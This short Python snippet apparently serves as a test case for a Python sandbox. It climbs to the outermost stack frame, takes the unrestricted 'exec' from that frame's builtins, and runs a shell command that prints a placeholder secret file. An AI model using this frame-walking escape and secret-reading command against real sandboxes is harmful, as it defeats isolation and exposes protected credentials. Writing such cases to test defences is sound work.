# From frame to frame back to the outermost one.
# effect: run
import sys
frame = sys._getframe()
while frame.f_back:
    frame = frame.f_back
frame.f_builtins["exec"]("import os; os.system('cat @SECRET@')")
